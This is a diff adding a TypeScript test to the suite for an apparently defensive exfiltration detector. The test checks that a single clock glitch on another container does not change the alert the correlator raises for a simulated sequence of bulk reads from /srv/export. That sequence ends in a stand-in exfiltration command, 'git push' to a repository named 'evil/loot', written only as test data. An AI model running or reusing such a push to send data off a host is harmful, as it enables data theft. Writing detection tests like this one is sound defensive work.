@@ -111,6 +111,37 @@ describe('clock trouble and disorder in the correlator', () => {
     expect(correlator.flush()).toEqual([]);
   });
 
+  it('live: one event hours ahead of a node whose clock is far from the wall clock does not move it', () => {
+    // Once a node's clock follows its events away from the wall clock (an old capture, a sensor clock ahead), a
+    // lone glitch is still refused as it is on a node in step: moved 20 h, the clock expired the capture's reads
+    // and its push was judged without them (low instead of high).
+    const HOUR = 3_600_000;
+    for (const offsetMs of [-30 * 24 * HOUR, 2 * HOUR]) {
+      const capture = (glitch: boolean) => {
+        const wallMs = Date.now();
+        const s = new Scenario({ startMs: wallMs + offsetMs });
+        const c = s.container();
+        const other = s.container();
+        const sh = s.init(c);
+        s.readMany(sh, '/srv/export', 20, 4 * MiB, 60_000);
+        if (glitch) s.exec(other, '/bin/date', '', { parent: s.init(other), at: s.now + 20 * HOUR });
+        s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
+        s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
+        for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
+        const { correlator } = makeCorrelator();
+        correlator.advance(wallMs);
+        // One event a call, as a followed file delivers them: the TTL sweep runs between calls.
+        const alerts: Alert[] = [];
+        for (const e of s.events) alerts.push(...correlator.ingest([e]));
+        alerts.push(...correlator.advance(wallMs + 60_000));
+        return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+      };
+      const clean = capture(false);
+      expect(clean, `offset ${offsetMs}`).toHaveLength(1);
+      expect(capture(true), `offset ${offsetMs}`).toEqual(clean);
+    }
+  });
+
   it('live: a push ahead of a wall clock that lags the events (the demo replay clock) is judged on its own time', () => {
     // The push and its reads are 30 min ahead of the wall clock the correlator is given: not a jump of its
     // clock (< 24 h), so judged at its own time with every read; judged on the clock as it was, it was judged
